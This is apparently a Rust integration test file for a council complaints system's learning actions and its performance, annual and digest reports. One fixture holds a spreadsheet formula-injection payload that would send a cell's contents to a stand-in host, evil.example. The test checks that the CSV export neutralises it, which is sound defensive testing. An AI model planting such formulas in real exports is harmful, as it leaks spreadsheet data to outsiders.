//! Learning actions and the performance report, checked against figures
//! worked out by hand from a small data set.

use awc::http::Method;
use serde_json::json;

use crate::event_types::fits;
use crate::helpers::*;
use crate::lifecycle::change;

/// A complaint, compliment or comment logged by an officer, received on `at`.
async fn logged(app: &TestApp, kind: &str, service: &str, channel: &str, at: &str) -> String {
    let body = with(
        complaint(),
        json!({
            "kind": kind, "service": service, "channel": channel,
            "received_at": at, "received_at_reason": "logged from the post"
        }),
    );
    let created = app
        .post("/api/v1/cases", &app.officer("o-log", &[service]), &body)
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    created.json()["reference"]
        .as_str()
        .expect("reference")
        .to_string()
}

/// Takes a complaint through the steps given, each with the manager.
async fn steps(app: &TestApp, reference: &str, steps: &[(&str, serde_json::Value)]) {
    let manager = app.manager();
    let base = format!("/api/v1/cases/{reference}");
    for (path, body) in steps {
        let etag = app.get(&base, &manager).await.header("etag").expect("etag");
        let response = if *path == "send" {
            if body["outcome"] != "not_upheld" {
                // An upheld response sets out its remedies: promised before it is sent.
                let promised = app
                    .post(
                        &format!("{base}/remedies"),
                        &manager,
                        &json!({"type": "apology", "description": "A written apology",
                                "due": "2026-12-18", "owner": "officer-17"}),
                    )
                    .await;
                assert_eq!(promised.status, 201, "remedy: {}", promised.text());
            }
            let drafted = app
                .post(
                    &format!("{base}/responses"),
                    &app.officer("officer-17", &["waste-care", "highways"]),
                    body,
                )
                .await;
            assert_eq!(drafted.status, 201, "draft: {}", drafted.text());
            let id = drafted.json()["id"].as_i64().expect("id");
            let etag = app.get(&base, &manager).await.header("etag").expect("etag");
            change(
                app,
                &format!("{base}/responses/{id}/approval"),
                &manager,
                Some(&etag),
                json!({}),
            )
            .await
        } else {
            change(
                app,
                &format!("{base}/{path}"),
                &manager,
                Some(&etag),
                body.clone(),
            )
            .await
        };
        assert!(response.status < 300, "{path}: {}", response.text());
    }
}

fn draft(outcome: &str) -> serde_json::Value {
    let mut body = json!({
        "outcome": outcome,
        "findings": [{"point": "The bin was missed", "finding": "It was", "upheld": outcome != "not_upheld"}],
        "letter": "Dear Alex Example, thank you for your complaint.",
        "understanding": "Your green bin was missed.",
        "outstanding_actions": []
    });
    if outcome != "not_upheld" {
        body["apology"] = json!("We are sorry the bin was missed.");
    }
    body
}

/// The hand-made data set: complaints A to D, two compliments, a comment,
/// one complaint from before the period, and two learning actions. Gives A.
async fn data_set(app: &TestApp) -> String {
    let manager = app.manager();
    // A: waste, received 1 October 2026, acknowledged the next day, upheld (late).
    let a = logged(
        app,
        "complaint",
        "waste-care",
        "telephone",
        "2026-10-01T10:00:00Z",
    )
    .await;
    steps(
        app,
        &a,
        &[
            ("triage", json!({"decision": "accept"})),
            (
                "acknowledgement",
                json!({"understanding": "The bin was missed three weeks running", "method": "email", "acknowledged_at": "2026-10-02T09:00:00Z"}),
            ),
            ("assignment", json!({"investigator": "officer-17"})),
            ("send", draft("upheld")),
        ],
    )
    .await;
    // B: waste, received and answered today (not upheld), then stage 2 asked for and acknowledged.
    let b = logged(
        app,
        "complaint",
        "waste-care",
        "email",
        &chrono::Utc::now().to_rfc3339(),
    )
    .await;
    steps(
        app,
        &b,
        &[
            ("triage", json!({"decision": "accept"})),
            ("acknowledgement", json!({"understanding": "The bin was missed three weeks running", "method": "email"})),
            ("assignment", json!({"investigator": "officer-17"})),
            ("send", draft("not_upheld")),
            (
                "escalations",
                json!({"reason": "The crew still miss the bin"}),
            ),
            ("acknowledgement", json!({"understanding": "The bin was missed three weeks running", "method": "email"})),
        ],
    )
    .await;
    // C: highways, a service request; D: highways, not triaged yet.
    let c = logged(
        app,
        "complaint",
        "highways",
        "letter",
        "2026-09-15T10:00:00Z",
    )
    .await;
    steps(app, &c, &[("triage", json!({"decision": "service_request", "referral": "Passed to the highways team as a first report"}))]).await;
    logged(
        app,
        "complaint",
        "highways",
        "online_form",
        "2026-11-02T10:00:00Z",
    )
    .await;
    // Compliments and a comment.
    logged(
        app,
        "compliment",
        "waste-care",
        "email",
        "2026-10-05T10:00:00Z",
    )
    .await;
    logged(
        app,
        "compliment",
        "highways",
        "email",
        "2026-10-06T10:00:00Z",
    )
    .await;
    logged(
        app,
        "comment",
        "waste-care",
        "email",
        "2026-10-07T10:00:00Z",
    )
    .await;
    // Outside the period.
    logged(
        app,
        "complaint",
        "waste-care",
        "email",
        "2024-06-03T10:00:00Z",
    )
    .await;

    // Learning: one overdue, one completed.
    let late = app
        .post(
            "/api/v1/learning-actions",
            &manager,
            // A formula where a spreadsheet would run it (OWASP's CSV injection).
            &json!({"learned": "Crews miss assisted bins",
                    "change_agreed": "=HYPERLINK(\"evil.example/?leak=\"&A1,\"Open\")",
                    "service": "waste-care", "owner": "-Ops manager", "due": "2026-10-31", "cases": [a]}),
        )
        .await;
    assert_eq!(late.status, 201, "{}", late.text());
    let done = app
        .post(
            "/api/v1/learning-actions",
            &manager,
            &json!({"learned": "Letters were unclear", "change_agreed": "Plain-English template",
                    "service": "highways", "owner": "Comms lead", "due": "2030-01-31"}),
        )
        .await;
    let id = done.json()["id"].as_i64().expect("id");
    let completed = app
        .send(
            awc::http::Method::PATCH,
            &format!("/api/v1/learning-actions/{id}"),
            Some(&manager),
            &[("If-Match", "\"1\"")],
            Some(
                json!({"status": "completed", "evidence": "Template in use since November"})
                    .to_string()
                    .into_bytes(),
            ),
        )
        .await;
    assert_eq!(completed.status, 200, "{}", completed.text());

    a
}

#[actix_web::test]
async fn every_figure_in_the_performance_report_is_the_count_worked_out_by_hand() {
    let app = spawn_app().await;
    let manager = app.manager();
    data_set(&app).await;
    let report = app
        .get(
            "/api/v1/reports/performance?from=2026-01-01&group_by=service",
            &manager,
        )
        .await;
    assert_eq!(report.status, 200, "{}", report.text());
    let report = report.json();
    let total = &report["total"];
    assert_eq!(
        total["received"],
        json!({"complaints": 4, "compliments": 2, "comments": 1, "total": 7})
    );
    assert_eq!(total["triage"]["accepted"], 2);
    assert_eq!(total["triage"]["service_requests"], 1);
    assert_eq!(total["triage"]["awaiting"], 1);
    let s1 = &total["stage_1"];
    assert_eq!(
        (
            s1["opened"].as_u64(),
            s1["acknowledged"].as_u64(),
            s1["acknowledged_on_time"].as_u64()
        ),
        (Some(2), Some(2), Some(2))
    );
    assert_eq!(s1["acknowledged_on_time_pct"], 100.0);
    assert_eq!(
        (s1["responded"].as_u64(), s1["responded_on_time"].as_u64()),
        (Some(2), Some(1))
    );
    assert_eq!(s1["responded_on_time_pct"], 50.0);
    assert_eq!(
        s1["outcomes"],
        json!({"upheld": 1, "partially_upheld": 0, "not_upheld": 1})
    );
    assert_eq!(s1["upheld_rate_pct"], 50.0);
    // A took the working days from 1 October to today; B none.
    let today = chrono::Utc::now().date_naive();
    let a_days = app
        .get(
            &format!("/api/v1/calendar/working-days?from=2026-10-01&to={today}"),
            &manager,
        )
        .await
        .json()["working_days"]
        .as_i64()
        .expect("working days");
    assert_eq!(s1["working_days_taken"]["median"], a_days as f64 / 2.0);
    assert_eq!(
        s1["working_days_taken"]["mean"],
        ((a_days as f64 / 2.0) * 10.0).round() / 10.0
    );
    let s2 = &total["stage_2"];
    assert_eq!(
        (
            s2["opened"].as_u64(),
            s2["acknowledged"].as_u64(),
            s2["responded"].as_u64()
        ),
        (Some(1), Some(1), Some(0))
    );
    assert_eq!(s2["upheld_rate_pct"], json!(null));
    assert_eq!(total["escalation_rate_pct"], 50.0);
    assert_eq!(total["ombudsman"]["referrals"], 0);
    assert_eq!(
        report["compliments_by_service"],
        json!([{"service": "highways", "count": 1}, {"service": "waste-care", "count": 1}])
    );
    assert_eq!(
        report["learning_actions"],
        json!({"raised": 2, "completed": 1, "overdue": 1})
    );
    assert_eq!(
        report["top_upheld_categories"],
        json!([{"category": "missed collection", "count": 1}])
    );
    let groups: Vec<(&str, u64)> = report["groups"]
        .as_array()
        .expect("groups")
        .iter()
        .map(|g| {
            (
                g["key"].as_str().unwrap_or_default(),
                g["figures"]["received"]["total"]
                    .as_u64()
                    .unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(groups, vec![("highways", 3), ("waste-care", 4)]);

    // No personal data anywhere in it.
    let text = report.to_string();
    for personal in [
        "Alex Example",
        "alex@example.org",
        "01384 811561",
        "Example Road",
    ] {
        assert!(!text.contains(personal), "the report names {personal}");
    }

    // A Head of Service sees only their services.
    let head = app.head_of_service("h-roads", &["highways"]);
    let theirs = app
        .get("/api/v1/reports/performance?from=2026-01-01", &head)
        .await
        .json();
    assert_eq!(theirs["total"]["received"]["total"], 3);
    assert_eq!(theirs["services"], json!(["highways"]));
    assert_eq!(
        theirs["compliments_by_service"],
        json!([{"service": "highways", "count": 1}])
    );
    assert_eq!(
        theirs["learning_actions"],
        json!({"raised": 1, "completed": 1, "overdue": 0})
    );
    app.get("/api/v1/reports/performance?service=waste-care", &head)
        .await
        .problem(403, "/problems/forbidden");
    app.get(
        "/api/v1/reports/performance",
        &app.officer("o-roads", &["highways"]),
    )
    .await
    .problem(403, "/problems/forbidden");
    app.get("/api/v1/reports/performance", &app.customer("c-1"))
        .await
        .problem(403, "/problems/forbidden");
    let invalid = app
        .get(
            "/api/v1/reports/performance?from=2026-13-01&group_by=colour&service=moon-base",
            &manager,
        )
        .await;
    invalid.problem(422, "/problems/validation");
    assert_eq!(
        invalid.invalid_fields(),
        vec!["from", "group_by", "service"]
    );
    let by_directorate = app
        .get(
            "/api/v1/reports/performance?from=2026-01-01&directorate=place&group_by=month",
            &manager,
        )
        .await
        .json();
    assert_eq!(by_directorate["total"]["received"]["total"], 7);
    assert_eq!(by_directorate["groups"][0]["key"], "2026-09");
}

#[actix_web::test]
async fn learning_actions_are_recorded_moved_on_and_listed_within_each_role() {
    let app = spawn_app().await;
    let manager = app.manager();
    let a = logged(
        &app,
        "complaint",
        "waste-care",
        "email",
        "2026-10-01T10:00:00Z",
    )
    .await;
    let head = app.head_of_service("h-waste", &["waste-care"]);
    let body = json!({"learned": "Crews miss assisted bins", "change_agreed": "Show them in the cab",
                      "service": "waste-care", "owner": "Ops manager", "due": "2026-10-31", "cases": [a]});
    let created = app
        .post_with_key("/api/v1/learning-actions", &head, "la-1", &body)
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let action = created.json();
    assert_eq!(action["status"], "agreed");
    assert_eq!(action["overdue"], true);
    assert_eq!(action["cases"], json!([a]));
    let location = created.header("location").expect("location");
    let replay = app
        .post_with_key("/api/v1/learning-actions", &head, "la-1", &body)
        .await;
    assert_eq!(replay.json()["id"], action["id"]);

    // Another service's head, officers and customers may not record one here.
    let before = app.row_counts();
    for token in [
        app.head_of_service("h-roads", &["highways"]),
        app.officer("o-waste", &["waste-care"]),
        app.customer("c-1"),
    ] {
        let refused = app.post("/api/v1/learning-actions", &token, &body).await;
        assert_eq!(refused.status, 403, "{}", refused.text());
    }
    assert_eq!(app.row_counts(), before);
    let invalid = app
        .post(
            "/api/v1/learning-actions",
            &manager,
            &json!({"learned": " ", "service": "waste-care", "cases": ["CMP-2026-999999"]}),
        )
        .await;
    invalid.problem(422, "/problems/validation");
    assert_eq!(
        invalid.invalid_fields(),
        vec!["change_agreed", "due", "learned", "owner"]
    );
    let unseen = app
        .post(
            "/api/v1/learning-actions",
            &manager,
            &with(body.clone(), json!({"cases": ["CMP-2026-999999"]})),
        )
        .await;
    assert_eq!(unseen.invalid_fields(), vec!["cases[0]"]);

    // Completing needs the evidence; a stale ETag is refused.
    let patch = |etag: &'static str, change: serde_json::Value| {
        let (app, location, head) = (&app, location.clone(), head.clone());
        async move {
            app.send(
                awc::http::Method::PATCH,
                &location,
                Some(&head),
                &[("If-Match", etag)],
                Some(change.to_string().into_bytes()),
            )
            .await
        }
    };
    patch("\"1\"", json!({"status": "completed"}))
        .await
        .problem(422, "/problems/validation");
    let moving = patch(
        "\"1\"",
        json!({"status": "in_progress", "due": "2030-01-31"}),
    )
    .await;
    assert_eq!(moving.status, 200, "{}", moving.text());
    assert_eq!(moving.json()["overdue"], false);
    patch("\"1\"", json!({"status": "cancelled", "evidence": "x"}))
        .await
        .problem(412, "/problems/precondition-failed");
    let done = patch(
        "\"2\"",
        json!({"status": "completed", "evidence": "In every cab since January"}),
    )
    .await;
    assert_eq!(done.json()["status"], "completed");
    assert!(done.json()["completed_on"].is_string());

    // Lists: by service, status, case and overdue; other services' staff see none.
    let listed = |query: &'static str, token: String| {
        let app = &app;
        async move {
            let response = app
                .get(&format!("/api/v1/learning-actions?{query}"), &token)
                .await;
            assert_eq!(response.status, 200, "{query}: {}", response.text());
            response.json()["items"]
                .as_array()
                .map(Vec::len)
                .unwrap_or_default()
        }
    };
    assert_eq!(listed("status=completed", manager.clone()).await, 1);
    assert_eq!(listed("overdue=true", manager.clone()).await, 0);
    assert_eq!(listed("overdue=false", manager.clone()).await, 1);
    assert_eq!(listed("", app.officer("o-waste", &["waste-care"])).await, 1);
    assert_eq!(listed("", app.officer("o-roads", &["highways"])).await, 0);
    let by_case: &'static str = Box::leak(format!("case={a}").into_boxed_str());
    assert_eq!(listed(by_case, manager.clone()).await, 1);
    app.get(&location, &app.officer("o-roads", &["highways"]))
        .await
        .problem(404, "/problems/not-found");
    app.get("/api/v1/learning-actions?overdue=maybe", &manager)
        .await
        .problem(422, "/problems/validation");
}

/// A small RFC 4180 reader: the fields of each line.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                field.push('"');
                chars.next();
            }
            ('"', true) => quoted = false,
            ('"', false) if field.is_empty() => quoted = true,
            (',', false) => row.push(std::mem::take(&mut field)),
            ('\r', false) => {}
            ('\n', false) => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => field.push(c),
        }
    }
    assert!(!quoted, "an unterminated quoted field");
    rows
}

#[actix_web::test]
async fn the_annual_report_is_data_csv_and_a_self_contained_page_with_no_personal_data() {
    let app = spawn_app().await;
    let manager = app.manager();
    data_set(&app).await;
    let get = |accept: &'static str, query: &'static str| {
        let (app, manager) = (&app, manager.clone());
        async move {
            app.send(
                awc::http::Method::GET,
                &format!("/api/v1/reports/annual?{query}"),
                Some(&manager),
                &[("Accept", accept)],
                None,
            )
            .await
        }
    };

    // JSON: the financial year 2026/27 holds the whole data set but the 2024 complaint.
    let json = get("application/json", "year=2026").await;
    assert_eq!(json.status, 200, "{}", json.text());
    let report = json.json();
    assert_eq!(
        report["title"],
        "Annual complaints performance and service improvement report 2026/27"
    );
    assert_eq!(
        report["period"],
        serde_json::json!({"from": "2026-04-01", "to": "2027-03-31"})
    );
    assert_eq!(report["headline"]["complaints_received"], 4);
    assert_eq!(report["headline"]["compliments_received"], 2);
    assert_eq!(report["headline"]["stage_1_responded_on_time_pct"], 50.0);
    assert_eq!(report["refused"]["service_requests"], 1);
    let months: Vec<&str> = report["by_month"]
        .as_array()
        .expect("months")
        .iter()
        .filter_map(|g| g["key"].as_str())
        .collect();
    let expected_months: Vec<String> = {
        let today = chrono::Utc::now().format("%Y-%m").to_string();
        let mut m = vec!["2026-09".to_string(), "2026-10".into(), "2026-11".into()];
        if !m.contains(&today) {
            m.push(today);
        }
        m
    };
    assert_eq!(months, expected_months);
    let items: Vec<(&str, &str)> = report["self_assessment"]
        .as_array()
        .expect("self-assessment")
        .iter()
        .map(|i| {
            (
                i["item"].as_str().unwrap_or_default(),
                i["source"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert!(items.contains(&("stage_1_in_time", "data")));
    assert!(items.contains(&("member_responsible", "manager")));
    let stage_1 = report["self_assessment"]
        .as_array()
        .expect("items")
        .iter()
        .find(|i| i["item"] == "stage_1_in_time")
        .cloned()
        .unwrap_or_default();
    assert_eq!(stage_1["met"], false);
    assert_eq!(stage_1["evidence"], "1 of 2 stage 1 responses on time");
    assert_eq!(report["improvements"].as_array().map(Vec::len), Some(2));

    // Published: counts from 1 to 4 withheld; rates kept.
    let published = get("application/json", "year=2026&suppress_below=5")
        .await
        .json();
    assert_eq!(
        published["headline"]["complaints_received"],
        serde_json::Value::Null
    );
    assert_eq!(published["headline"]["stage_1_responded_on_time_pct"], 50.0);
    assert_eq!(published["suppressed_below"], 5);
    // The document says so: the published report, nulls included, is what its schema
    // allows (the schema once said every count was an integer).
    let doc = app
        .send(Method::GET, "/openapi.json", None, &[], None)
        .await
        .json();
    let schema = &doc["paths"]["/api/v1/reports/annual"]["get"]["responses"]["200"]["content"]
        ["application/json"]["schema"];
    assert_eq!(fits(&published, schema, &doc), Ok(()));
    assert_eq!(fits(&report, schema, &doc), Ok(()));

    // CSV: every table has its own header row, and every row its header's width.
    let csv = get("text/csv", "year=2026").await;
    assert_eq!(csv.status, 200);
    assert!(csv
        .header("content-type")
        .unwrap_or_default()
        .starts_with("text/csv"));
    let text = csv.text();
    let blocks: Vec<&str> = text.split("\r\n\r\n").collect();
    assert!(blocks.len() >= 8, "{} tables", blocks.len());
    for block in &blocks {
        let rows = csv_rows(&format!("{}\r\n", block.trim_end()));
        assert_eq!(rows[0][0], "table", "a header row first: {:?}", rows[0]);
        for row in &rows[1..] {
            assert_eq!(row.len(), rows[0].len(), "{row:?}");
        }
    }
    assert!(text.contains("table,measure,value\r\nheadline,complaints received,4\r\n"));
    // Cells that a spreadsheet would read as a formula start with a quote mark; numbers,
    // negative ones included, stay numbers.
    assert!(
        text.contains("\"'=HYPERLINK(\"\"evil.example/?leak=\"\"&A1,\"\"Open\"\")\""),
        "{text}"
    );
    assert!(!text.contains(",=HYPERLINK"), "{text}");
    assert!(!text.contains(",\"=HYPERLINK"), "{text}");
    let published_csv = get("text/csv", "year=2026&suppress_below=5").await.text();
    assert!(published_csv.contains("headline,complaints received,<5\r\n"));

    // HTML: one page, nothing fetched from anywhere, charts as SVG with titles.
    let html = get("text/html", "year=2026&suppress_below=5").await;
    assert_eq!(html.status, 200);
    let page = html.text();
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert_eq!(page.matches("<html").count(), 1);
    assert_eq!(page.matches("<svg").count(), 4);
    assert_eq!(page.matches("role=\"img\"").count(), 4);
    for title in [
        "Complaints received by month",
        "Outcomes by stage",
        "Timeliness against the target",
        "Complaints received by service",
    ] {
        assert!(
            page.contains(&format!("\">{title}")),
            "no chart titled {title}"
        );
    }
    for external in [
        "<script", "<link", "<img", "@import", "url(", "src=", "https://",
    ] {
        assert!(!page.contains(external), "the page refers to {external}");
    }
    assert!(page
        .replace("http://www.w3.org/2000/svg", "")
        .find("http://")
        .is_none());

    // No personal data in any form.
    for text in [report.to_string(), text, page] {
        for personal in [
            "Alex Example",
            "alex@example.org",
            "01384 811561",
            "Example Road",
        ] {
            assert!(!text.contains(personal), "the report names {personal}");
        }
    }

    get("application/pdf", "year=2026")
        .await
        .problem(406, "/problems/not-acceptable");
    let invalid = get("application/json", "year=26&suppress_below=1").await;
    assert_eq!(invalid.invalid_fields(), vec!["suppress_below", "year"]);
    let head = app.head_of_service("h-roads", &["highways"]);
    let theirs = app
        .get("/api/v1/reports/annual?year=2026", &head)
        .await
        .json();
    assert_eq!(theirs["headline"]["complaints_received"], 2);
    app.get(
        "/api/v1/reports/annual?year=2026",
        &app.officer("o-1", &["highways"]),
    )
    .await
    .problem(403, "/problems/forbidden");
}

#[actix_web::test]
async fn the_member_digest_compares_the_period_with_the_one_before_and_finds_rising_themes() {
    let app = spawn_app().await;
    let manager = app.manager();
    let log = |category: &'static str, kind: &'static str, at: &'static str| {
        let app = &app;
        async move {
            let body = with(
                complaint(),
                json!({"kind": kind, "category": category, "channel": "letter",
                       "received_at": at, "received_at_reason": "from the post"}),
            );
            let created = app
                .post(
                    "/api/v1/cases",
                    &app.officer("o-log", &["waste-care"]),
                    &body,
                )
                .await;
            assert_eq!(created.status, 201, "{}", created.text());
        }
    };
    // October 2026 (31 days) against 31 August to 30 September.
    for at in [
        "2026-10-01T10:00:00Z",
        "2026-10-14T10:00:00Z",
        "2026-10-31T10:00:00Z",
    ] {
        log("missed collection", "complaint", at).await;
    }
    log("staff conduct", "complaint", "2026-10-20T10:00:00Z").await;
    log("staff conduct", "compliment", "2026-10-21T10:00:00Z").await;
    log("missed collection", "complaint", "2026-08-31T10:00:00Z").await;
    log("staff conduct", "complaint", "2026-09-10T10:00:00Z").await;
    log("staff conduct", "complaint", "2026-09-30T10:00:00Z").await;
    // Outside both periods.
    log("staff conduct", "complaint", "2026-08-30T10:00:00Z").await;

    let digest = app
        .get(
            "/api/v1/reports/digest?from=2026-10-01&to=2026-10-31",
            &manager,
        )
        .await;
    assert_eq!(digest.status, 200, "{}", digest.text());
    let digest = digest.json();
    assert_eq!(
        digest["previous_period"],
        json!({"from": "2026-08-31", "to": "2026-09-30"})
    );
    assert_eq!(
        digest["complaints"],
        json!({"current": 4.0, "previous": 3.0, "change": 1.0, "change_pct": 33.3})
    );
    assert_eq!(digest["compliments"]["change_pct"], json!(null));
    assert_eq!(digest["stage_1_responded_on_time_pct"], json!(null));
    let categories: Vec<(String, f64, f64)> = digest["categories"]
        .as_array()
        .expect("categories")
        .iter()
        .map(|t| {
            (
                t["category"].as_str().unwrap_or_default().to_string(),
                t["complaints"]["current"].as_f64().unwrap_or_default(),
                t["complaints"]["previous"].as_f64().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        categories,
        vec![
            ("missed collection".to_string(), 3.0, 1.0),
            ("staff conduct".to_string(), 1.0, 2.0)
        ]
    );
    assert_eq!(digest["rising_themes"].as_array().map(Vec::len), Some(1));
    assert_eq!(digest["rising_themes"][0]["category"], "missed collection");
    assert_eq!(
        digest["rising_themes"][0]["complaints"]["change_pct"],
        200.0
    );
    assert!(!digest.to_string().contains("Alex Example"));

    let missing = app.get("/api/v1/reports/digest", &manager).await;
    assert_eq!(missing.invalid_fields(), vec!["from", "to"]);
    app.get(
        "/api/v1/reports/digest?from=2026-10-01&to=2026-10-31",
        &app.customer("c"),
    )
    .await
    .problem(403, "/problems/forbidden");
}

#[actix_web::test]
async fn the_manager_answers_the_self_assessment_lines_the_cases_cannot_prove() {
    let app = spawn_app().await;
    let manager = app.manager();
    let put = |token: String, path: &'static str, body: serde_json::Value| {
        let app = &app;
        async move {
            app.send(
                awc::http::Method::PUT,
                path,
                Some(&token),
                &[],
                Some(body.to_string().into_bytes()),
            )
            .await
        }
    };
    let answer = json!({"met": true, "evidence": "Cllr Example named on 12 May 2026"});
    let before = app.row_counts();
    put(
        app.head_of_service("h", &["waste-care"]),
        "/api/v1/reports/self-assessment/2026/member_responsible",
        answer.clone(),
    )
    .await
    .problem(403, "/problems/forbidden");
    put(
        manager.clone(),
        "/api/v1/reports/self-assessment/2026/stage_1_in_time",
        answer.clone(),
    )
    .await
    .problem(404, "/problems/not-found");
    let invalid = put(
        manager.clone(),
        "/api/v1/reports/self-assessment/2026/policy_published",
        json!({"evidence": " "}),
    )
    .await;
    assert_eq!(invalid.invalid_fields(), vec!["evidence", "met"]);
    assert_eq!(app.row_counts(), before);

    let answered = put(
        manager.clone(),
        "/api/v1/reports/self-assessment/2026/member_responsible",
        answer,
    )
    .await;
    assert_eq!(answered.status, 200, "{}", answered.text());
    assert_eq!(answered.json()["met"], true);
    let changed = put(
        manager.clone(),
        "/api/v1/reports/self-assessment/2026/member_responsible",
        json!({"met": false, "evidence": "The post is vacant since October"}),
    )
    .await;
    assert_eq!(changed.json()["met"], false);

    let listed = app
        .get("/api/v1/reports/self-assessment/2026", &manager)
        .await
        .json();
    let line = listed
        .as_array()
        .expect("lines")
        .iter()
        .find(|l| l["item"] == "member_responsible")
        .cloned()
        .unwrap_or_default();
    assert_eq!(line["evidence"], "The post is vacant since October");
    let report = app
        .get("/api/v1/reports/annual?year=2026", &manager)
        .await
        .json();
    let line = report["self_assessment"]
        .as_array()
        .expect("lines")
        .iter()
        .find(|l| l["item"] == "member_responsible")
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        (line["source"].as_str(), line["met"].as_bool()),
        (Some("manager"), Some(false))
    );
    let earlier = app
        .get("/api/v1/reports/annual?year=2025", &manager)
        .await
        .json();
    let line = earlier["self_assessment"]
        .as_array()
        .expect("lines")
        .iter()
        .find(|l| l["item"] == "member_responsible")
        .cloned()
        .unwrap_or_default();
    assert_eq!(line["met"], json!(null));
}

#[actix_web::test]
async fn only_heads_of_service_and_the_manager_read_the_self_assessment_answers() {
    let app = spawn_app().await;
    let path = "/api/v1/reports/self-assessment/2026";
    for token in [
        app.officer("o", &["waste-care"]),
        app.customer("c"),
        app.partner("p"),
    ] {
        app.get(path, &token)
            .await
            .problem(403, "/problems/forbidden");
    }
    for token in [app.head_of_service("h", &["waste-care"]), app.manager()] {
        let read = app.get(path, &token).await;
        assert_eq!(read.status, 200, "{}", read.text());
    }
}
